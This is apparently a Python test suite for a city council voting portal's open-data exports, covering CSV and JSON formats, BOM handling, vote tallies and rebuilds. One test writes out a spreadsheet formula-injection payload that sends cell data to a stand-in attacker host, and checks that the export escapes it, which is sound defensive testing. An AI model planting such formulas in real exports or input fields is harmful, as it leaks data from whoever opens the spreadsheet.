"""Open data (Resolution No. 835 sets) built by a durable consumer, served as CSV and JSON, rebuildable."""

from __future__ import annotations

import asyncio
import csv
import io
from typing import Any

from cli_support import _env, _run
from conftest import Demo
from opendata_support import _json, _session_with_two_votes

from portal_bridge.opendata import DEPUTY_FIELDS, MOTION_FIELDS, VOTING_FIELDS


async def test_motions_and_votings_follow_the_votes_in_both_formats(demo_council: Demo) -> None:
    demo = demo_council
    draft = {"id": "r", "document": "pr-101", "number": "ПР-101", "title": "Т", "initiator": "І", "rapporteur": "Р"}
    registered = await demo.client.post("/api/v1/documents", json=draft, headers=await demo.headers("secretary"))
    assert registered.status_code == 201, registered.text
    await _session_with_two_votes(demo)
    motions = await _json(demo, "/opendata/ua835/motions.json?session=c8-s45")
    assert [tuple(m) for m in motions] == [MOTION_FIELDS, MOTION_FIELDS]
    first, second = motions
    assert first["uid"] == "c8-s45-v1" and first["authorityName"] == "Вознесенська міська рада"
    assert (first["convocation"], first["legislativeSession"], first["number"], first["projectNumber"]) == (
        8,
        45,
        "1",
        "ПР-101",
    )
    assert (
        first["votingFor"],
        first["votingAgainst"],
        first["votingAbstain"],
        first["notVoting"],
        first["absent"],
    ) == (18, 1, 0, 1, 14)
    assert first["composition"] == 34  # the mayor took no part: the lines add up to the statutory composition
    assert first["votingResult"] == "Прийнято" and second["votingResult"] == "Не прийнято"
    assert first["title"].endswith("(в цілому)")
    # ПР-101 is registered but not yet published: residents have no page of it to be sent to
    assert first["textUrl"] == "" and second["textUrl"] == ""  # ПР-102 has no document at all
    command = {"id": "p", "type": "document.publish_draft", "date": "2026-11-02"}
    headers = await demo.headers("secretary")
    published = await demo.client.post("/api/v1/documents/pr-101/commands", json=command, headers=headers)
    assert published.status_code == 200, published.text
    first, second = (await demo.client.get("/opendata/ua835/motions.json?session=c8-s45")).json()
    port = demo.server.url.rsplit(":", 1)[1]  # the address the server listens on, not the Host header
    assert first["textUrl"] == f"http://localhost:{port}/decisions/pr-101" and second["textUrl"] == ""
    rows = await _csv(demo, "/opendata/ua835/motions.csv?session=c8-s45")
    assert [r["textUrl"] for r in rows] == [first["textUrl"], ""]
    by_convocation = (await demo.client.get("/opendata/ua835/motions.json?convocation=8")).json()
    assert [m["uid"] for m in by_convocation] == ["c8-s45-v1", "c8-s45-v2"]
    assert (await demo.client.get("/opendata/ua835/votings.json?convocation=7")).json() == []
    assert (await demo.client.get("/opendata/ua835/motions.csv?convocation=x")).status_code == 400

    votings = await _json(demo, "/opendata/ua835/votings.json?session=c8-s45")
    assert len(votings) == 2 * 34 and all(tuple(v) == VOTING_FIELDS for v in votings)
    by_voter = {(v["motionUid"], v["voterId"]): v["result"] for v in votings}
    assert by_voter[("c8-s45-v1", "d01")] == "За" and by_voter[("c8-s45-v1", "d19")] == "Проти"
    assert by_voter[("c8-s45-v1", "d20")] == "Не голосував" and by_voter[("c8-s45-v1", "d30")] == "Відсутній"
    assert by_voter[("c8-s45-v2", "d01")] == "Утримався"

    response = await demo.client.get("/opendata/ua835/votings.csv?session=c8-s45")
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(b"\xef\xbb\xbfmotionUid,")  # a BOM: Excel on Windows reads UTF-8
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert tuple(rows[0]) == VOTING_FIELDS and len(rows) == 68
    assert {(r["motionUid"], r["voterId"]): r["result"] for r in rows} == by_voter
    deputies = (await demo.client.get("/opendata/ua835/deputies.json")).json()
    assert len(deputies) == 35 and tuple(deputies[0]) == DEPUTY_FIELDS
    assert {d["mayor"] for d in deputies} == {True, False}  # JSON keeps its booleans
    assert (await demo.client.get("/opendata/ua835/motions.json?session=nope")).json() == []
    assert (await demo.client.get("/opendata/ua835/motions.xml")).status_code == 404


async def _csv(demo: Demo, path: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO((await demo.client.get(path)).content.decode("utf-8-sig"))))


async def test_every_csv_set_has_a_bom_a_header_crlf_and_yes_no_in_ukrainian(demo_council: Demo) -> None:
    demo = demo_council
    await _session_with_two_votes(demo)
    await _json(demo, "/opendata/ua835/votings.json")
    fields = {"motions": MOTION_FIELDS, "votings": VOTING_FIELDS, "deputies": DEPUTY_FIELDS}
    for name, header in fields.items():
        response = await demo.client.get(f"/opendata/ua835/{name}.csv")
        assert response.status_code == 200 and response.headers["content-type"] == "text/csv; charset=utf-8"
        assert (
            response.headers["content-disposition"]
            == f"attachment; filename=\"{name}.csv\"; filename*=UTF-8''{name}.csv"
        )
        body = response.content
        assert body.startswith("\ufeff".encode()) and body.count("\ufeff".encode()) == 1, name
        text = body.decode("utf-8-sig")
        assert text.split("\r\n")[0] == ",".join(header) and text.endswith("\r\n"), name
        assert "True" not in text and "False" not in text, name
    deputies = await _csv(demo, "/opendata/ua835/deputies.csv")
    mayor = {d["id"]: d["mayor"] for d in deputies}
    assert mayor["mayor"] == "так" and mayor["d01"] == "ні" and set(mayor.values()) == {"так", "ні"}
    motions = await _csv(demo, "/opendata/ua835/motions.csv")
    assert [m["composition"] for m in motions] == ["34", "34"]


async def test_the_motions_state_the_composition_with_the_mayor_taking_part(demo_council: Demo) -> None:
    demo = demo_council
    await _session_with_two_votes(demo)
    await demo.ok("chair", "presence.register")  # the mayor takes part: counted in the composition (art. 59 part 2)
    await demo.ok("chair", "vote.open", item="i2", subject="в цілому", rule="majority_of_composition", seconds=60)
    await demo.ok("chair", "ballot.cast", vote="v3", choice="for")
    await demo.ok("chair", "vote.close", vote="v3")
    for _ in range(200):
        motions = (await demo.client.get("/opendata/ua835/motions.json")).json()
        if len(motions) == 3:
            break
        await asyncio.sleep(0.025)
    third = motions[2]
    lines = sum(third[k] for k in ("votingFor", "votingAgainst", "votingAbstain", "notVoting", "absent"))
    assert third["composition"] == lines == 35
    assert [m["composition"] for m in motions] == [34, 34, 35]


async def test_a_rebuild_from_scratch_gives_the_same_open_data(demo_council: Demo) -> None:
    demo = demo_council
    await _session_with_two_votes(demo)
    before_motions = await _json(demo, "/opendata/ua835/motions.json")
    before_votings = await _json(demo, "/opendata/ua835/votings.json")
    consumer = demo.server.state.consumers["opendata"]
    assert await consumer.catch_up() == 0  # up to date: nothing to read
    assert await consumer.rebuild() > 0
    assert (await demo.client.get("/opendata/ua835/motions.json")).json() == before_motions
    assert (await demo.client.get("/opendata/ua835/votings.json")).json() == before_votings


async def test_kvorum_portal_rebuild_from_the_command_line(
    demo_council: Demo, database_url: str, tmp_path: Any
) -> None:
    demo = demo_council
    await _session_with_two_votes(demo)
    before = await _json(demo, "/opendata/ua835/votings.json")
    await demo.server.kvorum.pool.execute("TRUNCATE od_motions, od_votings")  # a read model lost …
    code, out, err = await _run(
        "portal", "rebuild", env=_env(KVORUM_DATABASE_URL=database_url, KVORUM_DATA_DIR=str(tmp_path))
    )
    assert code == 0, err
    assert "opendata:" in out and "outcomes:" in out
    assert (await demo.client.get("/opendata/ua835/votings.json")).json() == before  # … and rebuilt the same


async def test_a_name_a_spreadsheet_would_run_as_a_formula_is_written_as_text(demo_council: Demo) -> None:
    demo = demo_council
    formula = '=HYPERLINK("http://attacker.example/?"&A1,"Відкрити")'
    updated = await demo.client.post(
        "/api/v1/council/commands",
        json={"id": "rename", "type": "deputy.update", "deputy": "d01", "name": formula},
        headers=await demo.headers("secretary"),
    )
    assert updated.status_code == 200, updated.text
    await _session_with_two_votes(demo)
    await _json(demo, "/opendata/ua835/votings.json")
    for name, field in (("deputies", "name"), ("votings", "voterName")):
        rows = await _csv(demo, f"/opendata/ua835/{name}.csv")
        cells = [r[field] for r in rows if formula in r[field]]
        assert cells and all(cell == "'" + formula for cell in cells), (name, cells)
    # the JSON keeps the name as it is: programs read it as text
    deputies = (await demo.client.get("/opendata/ua835/deputies.json")).json()
    assert formula in [d["name"] for d in deputies]
